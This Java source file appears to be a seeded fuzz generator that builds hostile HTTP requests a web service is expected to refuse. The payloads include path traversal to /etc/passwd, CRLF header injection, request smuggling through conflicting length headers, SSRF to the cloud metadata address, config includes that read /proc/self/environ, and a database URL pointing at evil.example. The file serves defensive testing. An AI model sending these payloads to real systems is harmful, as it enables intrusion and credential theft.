package wickstream.cli;

import java.nio.charset.StandardCharsets;
import java.util.List;
import java.util.Random;
import java.util.function.Function;

/** Requests that nobody in good faith would send, drawn with a seed. All have to be refused. */
final class Hostility {
  private static final String CAMPAIGNS = "/api/v1/campaigns";
  private static final List<String> METHODS =
      List.of("PUT", "PATCH", "DELETE", "POST", "TRACE", "OPTIONS", "FOO");
  private static final List<String> LIES =
      List.of("evil.example", "evil.example:7870", "169.254.169.254", "0.0.0.0", "[::2]", "a.b.c");
  private static final List<String> NAMES =
      List.of(
          "../../etc/passwd",
          "..%2f..%2fetc%2fpasswd",
          "%2e%2e/%2e%2e/x",
          "....//",
          ".hidden",
          "a%00b",
          "a%0d%0aSet-Cookie:x",
          "%ff%fe",
          "nul\\..\\x",
          "%F0%9F%92%A9");
  private static final List<String> VALUES =
      List.of(
          "\"x\"",
          "1e999",
          "-1",
          "null",
          "[]",
          "{}",
          "true",
          "1.5",
          "[[1]]",
          "NaN",
          "\"\\u0000\"",
          "99999999999999999999",
          "0");
  private static final List<String> KEYS =
      List.of("widths", "bag-size", "stop.min-bags", "stop.confidence", "ensemble.d-in", "orders");

  private final Random random;
  private final String host;
  private final List<Function<Hostility, String>> kinds =
      List.of(
          Hostility::wrongMethod,
          Hostility::wrongPath,
          Hostility::traversal,
          Hostility::wrongHost,
          Hostility::wrongOrigin,
          Hostility::wrongType,
          Hostility::deepNesting,
          Hostility::wrongValue,
          Hostility::wrongName,
          Hostility::wrongPriority,
          Hostility::reachingOut,
          Hostility::badText,
          Hostility::compressed,
          Hostility::smuggled,
          Hostility::badLine,
          Hostility::badHeader,
          Hostility::badEscape,
          Hostility::badNumber);

  Hostility(long seed, String host) {
    this.random = new Random(seed);
    this.host = host;
  }

  /** The next request as it goes over the wire. */
  byte[] next() {
    return kinds
        .get(random.nextInt(kinds.size()))
        .apply(this)
        .getBytes(StandardCharsets.ISO_8859_1);
  }

  private <T> T any(List<T> list) {
    return list.get(random.nextInt(list.size()));
  }

  private String head(String method, String path, String... headers) {
    return "%s %s HTTP/1.1\r\nHost: %s\r\nConnection: close\r\n%s\r\n"
        .formatted(
            method, path, host, headers.length == 0 ? "" : String.join("\r\n", headers) + "\r\n");
  }

  private String withBody(String method, String path, String type, String body) {
    return head(
            method,
            path,
            "Content-Type: " + type,
            "Content-Length: " + body.getBytes(StandardCharsets.ISO_8859_1).length)
        + body;
  }

  private String submitted(String body) {
    return withBody("POST", CAMPAIGNS, "text/plain", body);
  }

  private String wrongMethod() {
    return withBody(any(METHODS), "/api/v1/templates", "text/plain", "x");
  }

  private String wrongPath() {
    return head("GET", "/" + word() + "/" + word());
  }

  private String word() {
    StringBuilder word = new StringBuilder("w");
    for (int i = random.nextInt(20); i > 0; i--) {
      word.append((char) ('a' + random.nextInt(26)));
    }
    return word.toString();
  }

  private String traversal() {
    return head("GET", "/assets/" + any(NAMES));
  }

  private String wrongHost() {
    return "GET %s HTTP/1.1\r\nHost: %s\r\nConnection: close\r\n\r\n"
        .formatted(CAMPAIGNS, any(LIES));
  }

  private String wrongOrigin() {
    return head("POST", CAMPAIGNS + "/victim/cancel", "Origin: http://" + any(LIES));
  }

  private String wrongType() {
    return withBody(
        "POST",
        CAMPAIGNS,
        any(
            List.of(
                "text/html", "multipart/form-data; boundary=x", "application/xml", "image/png")),
        "campaign { widths = [5], sigma-w = [1.0] }");
  }

  private String deepNesting() {
    String open = any(List.of("{a:", "[", "{\"campaign\":", "campaign{"));
    return submitted(open.repeat(500 + random.nextInt(20_000)));
  }

  private String wrongValue() {
    return submitted(
        "campaign { widths = [5], sigma-w = [1.0], %s = %s }"
            .formatted(
                any(KEYS),
                any(List.of("\"x\"", "-1", "[[1]]", "1.5.5", "{}", "NaN", "\"\\u0000\""))));
  }

  private String wrongName() {
    return withBody(
        "POST",
        CAMPAIGNS + "?name=" + any(NAMES),
        "text/plain",
        "campaign { widths = [5], sigma-w = [1.0] }");
  }

  private String wrongPriority() {
    return withBody(
        "PATCH",
        CAMPAIGNS + "/victim",
        "application/json",
        any(
                List.of(
                    "",
                    "{\"priority\": \"high\"}",
                    "{",
                    "[1]",
                    "{\"x\": 1}",
                    "{\"priority\": 1e9}"))
            + (random.nextBoolean() ? "" : any(VALUES)));
  }

  private String reachingOut() {
    return submitted(
        any(
            List.of(
                "include \"/etc/passwd\"",
                "include url(\"http://169.254.169.254/\")",
                "include file(\"/proc/self/environ\")",
                "campaign { name = ${HOME}, widths = [5], sigma-w = [1.0] }",
                "campaign { widths = [5], sigma-w = [1.0] }, store.url = \"jdbc:postgresql://evil.example/x\"",
                "campaign { widths = ${campaign.widths}, sigma-w = [1.0] }")));
  }

  private String badText() {
    return submitted("campaign { name = \"\u00ff\u00fe\u00c0\u0080\" }");
  }

  private String compressed() {
    return head(
            "POST",
            CAMPAIGNS,
            "Content-Type: text/plain",
            "Content-Encoding: " + any(List.of("gzip", "deflate", "br")),
            "Content-Length: 3")
        + "abc";
  }

  /** Two requests in one, for those who disagree on where the first ends. */
  private String smuggled() {
    String inner = "POST %s/victim/cancel HTTP/1.1\r\nHost: %s\r\n\r\n".formatted(CAMPAIGNS, host);
    return any(
        List.of(
            head("POST", "/nowhere", "Content-Length: 4", "Transfer-Encoding: chunked")
                + "0\r\n\r\n"
                + inner,
            head("POST", "/nowhere", "Content-Length: 0", "Content-Length: " + inner.length())
                + inner,
            head("POST", "/nowhere", "Transfer-Encoding: chunked", "Transfer-Encoding: identity")
                + "0\r\n\r\n"
                + inner,
            head("POST", "/nowhere", "Transfer-Encoding: \u000bchunked") + "0\r\n\r\n" + inner,
            head("POST", "/nowhere", "Content-Length: -1") + inner,
            head("POST", "/nowhere", "Content-Length: 1e3") + inner));
  }

  private String badLine() {
    return any(
        List.of(
            "GET  / HTTP/1.1\r\nHost: " + host + "\r\n\r\n",
            "GET /\r\n\r\n",
            "\u0000\u0001\u0002\u0003\r\n\r\n",
            "GET / HTTP/9.9\r\nHost: " + host + "\r\n\r\n",
            "GET " + "/a".repeat(5000) + " HTTP/1.1\r\nHost: " + host + "\r\n\r\n",
            "VERYLONGMETHODNAMETHATNOBODYKNOWS / HTTP/1.1\r\nHost: " + host + "\r\n\r\n",
            "GET http://evil.example/api/v1 HTTP/1.1\r\nHost: " + host + "\r\n\r\n",
            "GET / HTTP/1.1\r\n\r\n"));
  }

  private String badHeader() {
    return any(
        List.of(
            head("GET", CAMPAIGNS, "X".repeat(5000) + ": x"),
            head("GET", CAMPAIGNS, "A: " + "x".repeat(20_000)),
            head("GET", CAMPAIGNS, " folded: x"),
            head("GET", CAMPAIGNS, "no colon"),
            head("GET", CAMPAIGNS, "X-Many: 1\r\n".repeat(200) + "X: y"),
            head("GET", CAMPAIGNS, "Host: evil.example")));
  }

  private String badEscape() {
    return head(
        "GET", CAMPAIGNS + "/" + any(List.of("%", "%zz", "%1", "a%c0%af", "%u002e")) + "/shards");
  }

  private String badNumber() {
    return any(
        List.of(
            head("GET", CAMPAIGNS + "/victim/events?after=-1"),
            head("GET", CAMPAIGNS + "/victim/events?after=x"),
            head("GET", CAMPAIGNS + "/victim/events", "Last-Event-ID: 99999999999999999999"),
            head("DELETE", CAMPAIGNS + "/victim?files=perhaps"),
            head("DELETE", CAMPAIGNS + "/victim"),
            withBody("POST", CAMPAIGNS + "?priority=1e3", "text/plain", "campaign {}"),
            withBody("POST", CAMPAIGNS + "?priority=101", "text/plain", "campaign {}")));
  }
}
